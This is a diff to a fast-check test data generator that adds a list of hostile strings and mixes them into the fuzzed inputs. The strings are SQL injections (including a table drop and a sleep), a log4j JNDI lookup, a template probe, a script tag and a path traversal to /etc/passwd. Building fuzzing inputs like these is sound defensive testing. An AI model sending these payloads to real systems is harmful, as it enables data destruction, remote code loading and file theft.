@@ -201,10 +201,27 @@ function integerValues(schema: JsonSchema): fc.Arbitrary<number> {
   );
 }
 
+// Text that has hurt services before: SQL, template and script injections, paths, escapes.
+export const suspiciousStrings: readonly string[] = [
+  "' or '1'='1",
+  "'; drop table events; --",
+  '"; select pg_sleep(10); --',
+  '1 or 1=1',
+  '\u0024{jndi:ldap://x/a}', // a log4j lookup
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  '../../../etc/passwd',
+  '%00',
+  '\\',
+  '$where',
+  '__proto__',
+];
+
 // Strings of every kind: ASCII, Unicode graphemes, any code point (lone surrogates and controls too),
-// long ones; a pattern, a format and lengths are honoured.
+// suspicious ones, long ones; a pattern, a format and lengths are honoured.
 const anyString: fc.Arbitrary<string> = fc.oneof(
   { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
+  { weight: 2, arbitrary: fc.constantFrom(...suspiciousStrings) },
   { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
   { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
   {
